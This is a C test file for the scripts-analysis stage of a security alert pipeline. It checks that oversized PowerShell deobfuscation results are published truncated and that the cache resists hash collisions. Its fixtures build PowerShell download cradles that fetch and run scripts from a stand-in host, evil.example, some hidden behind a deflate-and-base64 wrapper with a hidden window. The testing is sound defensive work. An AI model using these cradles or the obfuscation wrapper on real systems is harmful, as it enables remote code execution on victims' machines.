/*
 * test_scripts_stage.c - the scripts stage (stages/scripts.c) on whole
 * alerts: an analysis too large for the stage's buffers is published
 * reduced ("truncated": true, verdict, behaviours and indicators kept),
 * never dropped; the analysis cache never answers one command line with
 * another's analysis, even when their hashes collide.
 */
#include "t.h"
#include "b64_test.h"

#include <jansson.h>
#include <stdint.h>
#include <zlib.h>

#include "alert.h"
#include "config.h"
#include "metrics.h"
#include "normalize.h"
#include "script.h"
#include "scripts_int.h"
#include "stage.h"

extern const struct sp_stage_type sp_stage_scripts;

struct rig {
    struct sp_config *cfg;
    struct sp_metrics *metrics;
    struct sp_env env;
    struct sp_stage *st;
};

static bool rig_open(struct rig *r, const char *yaml)
{
    memset(r, 0, sizeof(*r));
    struct sp_error err = {0};
    r->cfg = sp_config_new();
    r->metrics = sp_metrics_new("socpilot");
    T_EQ_INT(sp_config_declare(r->cfg, sp_stage_scripts.keys,
                               sp_stage_scripts.n_keys, &err), SP_OK);
    T_EQ_INT(sp_config_load_string(r->cfg, "test.yaml", yaml, strlen(yaml),
                                   &err), SP_OK);
    T_EQ_INT(sp_config_validate(r->cfg, &err), SP_OK);
    r->env = (struct sp_env){.cfg = r->cfg, .metrics = r->metrics};
    r->st = sp_stage_new(&sp_stage_scripts, 0, &r->env);
    T_OK(r->st != NULL);
    if (!r->st || sp_stage_init(r->st, &err) != SP_OK) {
        T_FAILF("scripts stage: %s", err.msg);
        return false;
    }
    return true;
}

static void rig_close(struct rig *r)
{
    sp_stage_free(r->st);
    sp_metrics_free(r->metrics);
    sp_config_free(r->cfg);
}

static uint64_t truncated_total(const struct rig *r)
{
    const struct sp_counter *c = sp_metrics_counter(
        r->metrics, "scripts_truncated_total", "", NULL);
    return sp_counter_get(c);
}

/* An alert JSON with one process entity per command line. */
static char *alert_json(const char *const *cmds, size_t n)
{
    struct sp_buf b;
    sp_buf_init(&b, 0);
    struct sp_jw w;
    sp_jw_init(&w, &b);
    sp_jw_obj_open(&w);
    sp_jw_kstr(&w, "id", "a1");
    sp_jw_kstr(&w, "title", "suspicious command line");
    sp_jw_key(&w, "entities");
    sp_jw_arr_open(&w);
    for (size_t i = 0; i < n; i++) {
        sp_jw_obj_open(&w);
        sp_jw_kstr(&w, "type", "process");
        sp_jw_key(&w, "ids");
        sp_jw_obj_open(&w);
        char pid[16];
        snprintf(pid, sizeof(pid), "%zu", 100 + i);
        sp_jw_kstr(&w, "pid", pid);
        sp_jw_kstr(&w, "command_line", cmds[i]);
        sp_jw_obj_close(&w);
        sp_jw_obj_close(&w);
    }
    sp_jw_arr_close(&w);
    sp_jw_obj_close(&w);
    T_OK(sp_jw_ok(&w));
    return b.data;
}

/* Runs the alert through decode (normalize) and the scripts stage;
 * returns its "scripts" section parsed (new reference), or NULL. */
static json_t *run_alert(struct rig *r, const char *const *cmds, size_t n)
{
    char *payload = alert_json(cmds, n);
    struct sp_batch *batch = sp_batch_new(1);
    struct sp_msg *msg = sp_batch_add(batch);
    msg->payload = payload;
    msg->len = strlen(payload);
    struct sp_normalize_opts nopts;
    sp_normalize_opts_default(&nopts);
    T_EQ_INT(sp_normalize(msg, &nopts, "decode.0"), SP_OK);
    T_EQ_INT(msg->n_alerts, 1);
    json_t *sec = NULL;
    if (msg->n_alerts == 1) {
        T_EQ_INT(sp_stage_process(r->st, batch), SP_OK);
        for (const struct sp_section *s = msg->alerts[0]->sections; s;
             s = s->next) {
            if (strcmp(s->name, "scripts") != 0)
                continue;
            json_error_t jerr;
            sec = json_loadb(s->json, s->len, 0, &jerr);
            if (!sec)
                T_FAILF("scripts section is not JSON: %s", jerr.text);
        }
    }
    sp_batch_free(batch);
    free(payload);
    return sec;
}

/* A PowerShell launcher of `size` bytes deflated and base64-encoded: a
 * download cradle, then a comment of quotes and backslashes (which JSON
 * escaping doubles) varied enough to stay under the ratio guard.  Returns
 * a new string. */
static char *deflate_cmd(size_t size, unsigned seed)
{
    static const char head[] =
        "IEX (New-Object Net.WebClient).DownloadString("
        "'http://evil.example/stage2.ps1')\n# ";
    unsigned char *plain = malloc(size);
    T_OK(plain != NULL);
    if (!plain)
        return NULL;
    memcpy(plain, head, sizeof(head) - 1);
    uint32_t x = 2463534242u + seed;
    static const char *const pats[] = {
        "\"\\\"\\\\\"\"\\\\\"\"\\\"\\\"\\", "\"\"\"\\\\\\\"\\\\\"\\\"\\\"\\\"",
        "\\\\\"\"\\\"\\\"\"\"\"\\\\\\\"\\", "\\\"\\\"\\\"\\\"\"\\\"\\\\\"\"\\"};
    for (size_t i = sizeof(head) - 1; i < size; i += 16) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        memcpy(plain + i, pats[x & 3], size - i < 16 ? size - i : 16);
    }
    uLong cap = compressBound(size);
    unsigned char *comp = malloc(cap);
    z_stream zs;
    memset(&zs, 0, sizeof(zs));
    T_EQ_INT(deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY),
             Z_OK);
    zs.next_in = plain;
    zs.avail_in = (uInt)size;
    zs.next_out = comp;
    zs.avail_out = (uInt)cap;
    T_EQ_INT(deflate(&zs, Z_FINISH), Z_STREAM_END);
    size_t clen = cap - zs.avail_out;
    deflateEnd(&zs);
    char *b64 = malloc(clen * 4 / 3 + 8);
    t_b64_encode(comp, clen, b64);
    size_t n = strlen(b64) + 512;
    char *cmd = malloc(n);
    snprintf(cmd, n,
             "powershell -nop -w hidden -c \"IEX (New-Object IO.StreamReader("
             "New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
             "[Convert]::FromBase64String('%s'),[IO.Compression."
             "CompressionMode]::Decompress))).ReadToEnd()\"",
             b64);
    free(plain);
    free(comp);
    free(b64);
    return cmd;
}

static bool has_behaviour(const json_t *an, const char *tactic)
{
    size_t i;
    json_t *b;
    json_array_foreach(json_object_get(an, "behaviours"), i, b) {
        if (json_is_string(json_object_get(b, "tactic")) &&
            strcmp(json_string_value(json_object_get(b, "tactic")), tactic) ==
                0)
            return true;
    }
    return false;
}

static bool has_indicator(const json_t *an, const char *value)
{
    size_t i;
    json_t *c;
    json_array_foreach(json_object_get(an, "indicators"), i, c) {
        const char *v = json_string_value(json_object_get(c, "value"));
        if (v && strstr(v, value))
            return true;
    }
    return false;
}

/* A 20-40 KB command line that decodes to ~1 MB of quotes and
 * backslashes: its analysis overflows the stage's buffer (about 2 MB)
 * once JSON-escaped twice (a layer's text and "decoded").  It is still
 * published, reduced, with its risk, behaviours and indicators. */
static void test_oversized_analysis(void)
{
    struct rig r;
    if (!rig_open(&r, "scripts:\n  max_output: 1MiB\n"))
        return;
    char *cmd = deflate_cmd(700000, 1);
    if (!cmd)
        return;
    size_t len = strlen(cmd);
    T_OK(len > 10000 && len < 40000);
    /* The analyser itself decodes it whole (no bound stops it). */
    struct sp_script_analysis an;
    struct sp_script_opts o;
    sp_script_opts_default(&o);
    T_EQ_INT(sp_script_analyze(cmd, len, &o, &an), SP_OK);
    size_t decoded = 0;
    for (size_t i = 1; i < an.deob.n_layers; i++)
        decoded += an.deob.layers[i].len;
    T_OK(decoded > 900000);
    T_EQ_INT(an.bounds_hit, 0);
    T_OK(an.risk > 0);
    /* Reduced to any room, down to none for texts: valid JSON with the
     * verdict, within the room. */
    static const size_t rooms[] = {0, 600, 4096, 16384, 1 << 20};
    for (size_t k = 0; k < SP_ARRAY_SIZE(rooms); k++) {
        struct sp_buf b;
        sp_buf_init(&b, rooms[k] + 4096);
        struct sp_jw w;
        sp_jw_init(&w, &b);
        sp_jw_obj_open(&w);
        sp_script_write_json_fields_max(&an, &w, rooms[k]);
        sp_jw_obj_close(&w);
        T_OK(sp_jw_ok(&w));
        json_t *j = b.data ? json_loads(b.data, 0, NULL) : NULL;
        T_OK(j != NULL);
        T_OK(json_is_true(json_object_get(j, "truncated")));
        T_EQ_INT(json_integer_value(json_object_get(j, "risk")), an.risk);
        if (rooms[k] >= 4096)
            T_OK(has_behaviour(j, "execution"));
        if (rooms[k] >= 16384)
            T_OK(has_indicator(j, "evil.example"));
        json_decref(j);
        sp_buf_fini(&b);
    }
    sp_script_analysis_fini(&an);

    const char *cmds[] = {cmd};
    json_t *sec = run_alert(&r, cmds, 1);
    T_OK(sec != NULL);
    json_t *a0 = json_array_get(sec, 0);
    T_OK(a0 != NULL);
    if (a0) {
        T_OK(json_is_true(json_object_get(a0, "truncated")));
        T_OK(json_integer_value(json_object_get(a0, "risk")) > 0);
        T_OK(has_behaviour(a0, "execution"));
        T_OK(has_indicator(a0, "evil.example"));
        T_OK(json_array_size(json_object_get(a0, "layers")) > 0);
        T_OK(json_is_string(json_object_get(a0, "decoded")));
    }
    T_EQ_INT(truncated_total(&r), 1);
    json_decref(sec);
    /* From the cache: the same. */
    sec = run_alert(&r, cmds, 1);
    a0 = json_array_get(sec, 0);
    T_OK(a0 && json_is_true(json_object_get(a0, "truncated")) &&
         has_behaviour(a0, "execution"));
    json_decref(sec);
    free(cmd);
    rig_close(&r);
}

/* Several large analyses in one alert overflow the section buffer
 * (4 x max_output + 64 KiB): each command line is still listed, the
 * later ones reduced, instead of the whole section being dropped. */
static void test_full_section(void)
{
    struct rig r;
    if (!rig_open(&r, "scripts:\n  max_output: 1MiB\n"))
        return;
    char *cmds[4];
    for (unsigned i = 0; i < 4; i++)
        cmds[i] = deflate_cmd(400000, 10 + i);
    json_t *sec = run_alert(&r, (const char *const *)cmds, 4);
    T_OK(sec != NULL);
    T_EQ_INT(json_array_size(sec), 4);
    size_t cut = 0;
    size_t i;
    json_t *a;
    json_array_foreach(sec, i, a) {
        T_OK(json_integer_value(json_object_get(a, "risk")) > 0);
        T_OK(json_is_string(json_object_get(a, "entity")));
        if (json_is_true(json_object_get(a, "truncated"))) {
            cut++;
            T_OK(has_behaviour(a, "execution"));
        }
    }
    T_OK(cut >= 1);
    T_OK(truncated_total(&r) >= 1);
    json_decref(sec);
    for (unsigned k = 0; k < 4; k++)
        free(cmds[k]);
    rig_close(&r);
}

/* A slot filled with one command line's analysis, under the hash and
 * length of another (a collision of the cache's 64-bit hash): the other
 * is not answered from it.  And through the stage, with a one-slot cache,
 * command lines of one length each get their own analysis. */
static void test_cache_collision(void)
{
    const char *benign = "powershell -c Write-Output 'hello world 1234567'";
    const char *evil = "powershell -c IEX(iwr http://evil.example/x.ps1)";
    T_EQ_INT(strlen(benign), strlen(evil));
    char json[] = "\"risk\":0";
    char *copy = strdup(benign);
    struct cache_slot slot = {0};
    slot.hash = scripts_hash(evil, strlen(evil));  /* forced collision */
    slot.cmd_len = strlen(benign);
    slot.cmd = copy;
    slot.json = json;
    slot.json_len = strlen(json);
    T_OK(!scripts_slot_holds(&slot, slot.hash, evil, strlen(evil)));
    slot.hash = scripts_hash(benign, strlen(benign));
    T_OK(scripts_slot_holds(&slot, slot.hash, benign, strlen(benign)));
    free(copy);

    struct rig r;
    if (!rig_open(&r, "scripts:\n  cache_entries: 1\n"))
        return;
    for (int round = 0; round < 2; round++) {
        const char *one[] = {round ? evil : benign};
        json_t *sec = run_alert(&r, one, 1);
        json_t *a0 = json_array_get(sec, 0);
        T_OK(a0 != NULL);
        const char *dec = json_string_value(json_object_get(a0, "decoded"));
        T_OK(dec && strstr(dec, round ? "evil.example" : "hello world"));
        json_decref(sec);
    }
    /* The same command line again: answered from the cache. */
    const char *again[] = {evil};
    json_decref(run_alert(&r, again, 1));
    T_EQ_INT(sp_counter_get(sp_metrics_counter(
                 r.metrics, "scripts_cache_hits_total", "", NULL)), 1);
    rig_close(&r);
}

int main(void)
{
    t_prog = "test_scripts_stage";
    T_RUN(test_oversized_analysis);
    T_RUN(test_full_section);
    T_RUN(test_cache_collision);
    return t_done();
}
